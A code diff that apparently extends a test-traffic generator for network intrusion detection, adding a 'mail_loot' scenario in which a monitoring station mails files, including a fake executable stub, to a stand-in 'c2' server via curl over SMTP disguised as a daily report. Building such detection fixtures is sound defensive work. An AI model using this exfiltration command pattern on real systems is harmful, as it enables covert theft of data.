@@ -373,6 +373,25 @@ def ftp_other_server():
         return s.save("ftp/other-server.pcap", START)
 
 
+def mail_loot():
+    """A station mails three files to a server outside: curl speaks SMTP, the second file is a program's first bytes."""
+    with Site(["rain-o-mon", "c2"]) as s:
+        s.addresses()
+        s.spawn("c2", "/usr/bin/python3", "-m", "aiosmtpd", "-n", "-c", "aiosmtpd.handlers.Sink", "-l", "0.0.0.0:25")
+        things.wait(2)
+        s.record()
+        files = {"levels.csv": b"time;level\n1;2.5\n" * 40, "tool.bin": b"\x7fELF\1\1\1" + bytes(200) + b"station-loot",
+                 "notes.txt": b"see http://198.51.100.23/next.exe\n"}
+        parts = []
+        for name, content in files.items():
+            (s.tmp / name).write_bytes(content)
+            parts += ["-F", f"file=@{s.tmp / name};encoder=base64"]
+        s.run("rain-o-mon", "curl", "-s", f"smtp://{address('c2')}/rain-o-mon", "--mail-from", "rain@can-tho.example",
+              "--mail-rcpt", "box@example.net", "-H", "Subject: daily report", "-H", "From: rain@can-tho.example",
+              "-H", "To: box@example.net", "-F", "=All well. See http://portal.can-tho.example/rain", *parts)
+        return s.save("mail/loot.pcap", START)
+
+
 def lorawan_second_server():
     """A gateway is made to talk to a second network server on the internet."""
     with Site(["dns01", "lora-cai-rang", "lns01", "c2"]) as s:
@@ -392,7 +411,8 @@ def lorawan_second_server():
 ALL = [modbus_write_stranger, modbus_recon, modbus_write_burst, modbus_internet, mqtt_wildcard, mqtt_brute, mqtt_outside,
        camera_scan, camera_default_login,
        camera_http_brute, camera_outside, telnet_loader, ssh_brute, dns_tunnel, new_resolver, tls_self_signed, coap_discovery,
-       http_exploits, cwmp, firmware, s7_stop, telecontrol_command, ftp_other_server, lorawan_second_server]
+       http_exploits, cwmp, firmware, s7_stop, telecontrol_command, ftp_other_server, mail_loot,
+       lorawan_second_server]
 
 
 def main():
